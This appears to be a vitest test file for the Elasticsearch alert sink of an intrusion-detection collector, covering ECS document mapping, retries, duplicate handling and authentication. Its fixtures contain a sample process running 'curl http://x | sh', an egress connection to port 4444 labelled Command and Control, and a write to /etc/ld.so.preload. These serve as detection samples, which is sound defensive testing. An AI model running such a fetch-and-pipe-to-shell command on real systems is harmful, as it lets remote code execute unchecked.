import { afterEach, describe, expect, it } from 'vitest';
import { Registry } from 'prom-client';
import { Problems } from '../../../lib/config-problems.js';
import { silentLogger } from '../../../lib/logger.js';
import {
  createElasticsearchSink,
  parseElasticsearchSinkConfig,
} from '../../../collector/sinks/elasticsearch/elasticsearch-sink.js';
import type { Sink } from '../../../collector/sinks/sink.js';
import { startFakeElasticsearch, type FakeElasticsearch } from '../../helpers/fake-elasticsearch.js';
import { connectIncident, execIncident, fileIncident } from './incident-fixture.js';

const BASIC = `Basic ${Buffer.from('tripline:s3cret').toString('base64')}`;
const cleanups: (() => Promise<void>)[] = [];
afterEach(async () => {
  for (const c of cleanups.splice(0).reverse()) await c();
});

async function es(authorization = BASIC): Promise<FakeElasticsearch> {
  const server = await startFakeElasticsearch({ authorization });
  cleanups.push(() => server.close());
  return server;
}

function sinkFor(raw: Record<string, unknown>): { sink: Sink; registry: Registry } {
  const problems = new Problems();
  const config = parseElasticsearchSinkConfig(
    { id: 'elastic', type: 'elasticsearch', auth: { username: 'tripline', password: 's3cret' }, ...raw },
    'sinks[0]',
    problems,
  );
  expect(problems.all).toEqual([]);
  const registry = new Registry();
  const sink = createElasticsearchSink(config, { log: silentLogger(), registry });
  cleanups.push(() => sink.close());
  return { sink, registry };
}

const docs = (server: FakeElasticsearch, index = 'tripline-incidents') => server.indices.get(index) ?? new Map();

describe('Elasticsearch bulk sink (fake Elasticsearch receiver)', () => {
  it('creates one ECS alert document per incident with the idempotency key as _id', async () => {
    const server = await es();
    const { sink } = sinkFor({ url: server.url });
    const result = await sink.send([execIncident(), connectIncident(), fileIncident()], AbortSignal.timeout(5000));
    expect(result).toEqual({ status: 'success' });
    expect(server.requests[0]!.headers['content-type']).toBe('application/x-ndjson');
    expect(server.requests[0]!.path).toMatch(/^\/_bulk\?filter_path=/);

    const stored = docs(server);
    expect([...stored.keys()]).toEqual([
      'inc-unexpected-exec-0001:1',
      'inc-unexpected-egress-0001:1',
      'inc-protected-path-write-0001:1',
    ]);
    expect(stored.get('inc-unexpected-exec-0001:1')).toMatchObject({
      '@timestamp': new Date(execIncident().lastSeenMs).toISOString(),
      message: 'Unexpected executable /bin/sh in payments/checkout (api)',
      event: { kind: 'alert', category: ['intrusion_detection', 'process'], severity: 4, risk_score: 78 },
      rule: { id: 'unexpected-exec', name: 'unexpected-exec' },
      threat: { technique: { id: ['T1059'] }, tactic: { id: ['TA0002'], name: ['Execution'] } },
      orchestrator: { type: 'kubernetes', namespace: 'payments', cluster: { name: 'prod-eu' } },
      container: { id: '0123abcd', image: { name: 'registry.example/checkout:1.4.2' } },
      process: { pid: 3120, executable: '/bin/sh', args: ['sh', '-c', 'curl http://x | sh'], parent: { pid: 3001 } },
      host: { name: 'node-a' },
    });
    expect(stored.get('inc-unexpected-egress-0001:1')).toMatchObject({
      destination: { ip: '203.0.113.9', port: 4444 },
      event: { category: ['intrusion_detection', 'network'] },
      threat: { tactic: { id: ['TA0011'], name: ['Command and Control'] } },
    });
    expect(stored.get('inc-protected-path-write-0001:1')).toMatchObject({
      file: { path: '/etc/ld.so.preload', name: 'ld.so.preload' },
    });
  });

  it('counts a re-sent batch as delivered (409 on create) without duplicating documents', async () => {
    const server = await es();
    const { sink, registry } = sinkFor({ url: server.url });
    const batch = [execIncident(), connectIncident()];
    expect(await sink.send(batch, AbortSignal.timeout(5000))).toEqual({ status: 'success' });
    expect(await sink.send(batch, AbortSignal.timeout(5000))).toEqual({ status: 'success' });
    expect(docs(server).size).toBe(2);
    const text = await registry.getSingleMetricAsString('tripline_collector_elasticsearch_bulk_items_total');
    expect(text).toContain('outcome="created"} 2');
    expect(text).toContain('outcome="duplicate"} 2');
  });

  it('is retryable when an item is refused with 429, and the re-send completes the batch', async () => {
    const server = await es();
    const { sink } = sinkFor({ url: server.url });
    server.rejectItems(/egress/, 1);
    const batch = [execIncident(), connectIncident()];
    const first = await sink.send(batch, AbortSignal.timeout(5000));
    expect(first).toMatchObject({
      status: 'retryable',
      error: expect.stringContaining('es_rejected_execution_exception'),
    });
    expect(docs(server).size).toBe(1);
    expect(await sink.send(batch, AbortSignal.timeout(5000))).toEqual({ status: 'success' });
    expect(docs(server).size).toBe(2);
  });

  it('fails the batch naming the items a mapping rejects, keeping the items that were stored', async () => {
    const server = await es();
    server.map('tripline-incidents', 'destination.port', 'object');
    const { sink } = sinkFor({ url: server.url });
    const result = await sink.send([execIncident(), connectIncident()], AbortSignal.timeout(5000));
    expect(result).toMatchObject({
      status: 'failure',
      error: expect.stringMatching(/1 of 2 items rejected: inc-unexpected-egress-0001:1: 400 mapper_parsing_exception/),
    });
    expect([...docs(server).keys()]).toEqual(['inc-unexpected-exec-0001:1']);
  });

  it('authenticates with an API key, writes to the configured index, and fails on wrong credentials', async () => {
    const server = await es('ApiKey VnVhQ2ZHY0JDZGJrUW0tZTVhT3g6dWkybHAyYXhUTm1zeWFrdzl0dk5udw==');
    const good = sinkFor({
      url: server.url,
      index: 'logs-tripline-default',
      auth: { apiKey: 'VnVhQ2ZHY0JDZGJrUW0tZTVhT3g6dWkybHAyYXhUTm1zeWFrdzl0dk5udw==' },
    });
    expect(await good.sink.send([execIncident()], AbortSignal.timeout(5000))).toEqual({ status: 'success' });
    expect(docs(server, 'logs-tripline-default').size).toBe(1);
    const bad = sinkFor({ url: server.url, auth: { apiKey: 'bm9wZTpub3Bl' } });
    expect(await bad.sink.send([execIncident()], AbortSignal.timeout(5000))).toMatchObject({
      status: 'failure',
      error: expect.stringContaining('HTTP 401'),
    });
  });

  it('reports a cluster that is down as retryable, not a throw', async () => {
    const server = await es();
    const url = server.url;
    await server.close();
    const { sink } = sinkFor({ url });
    expect(await sink.send([execIncident()], AbortSignal.timeout(5000))).toMatchObject({ status: 'retryable' });
  });
});
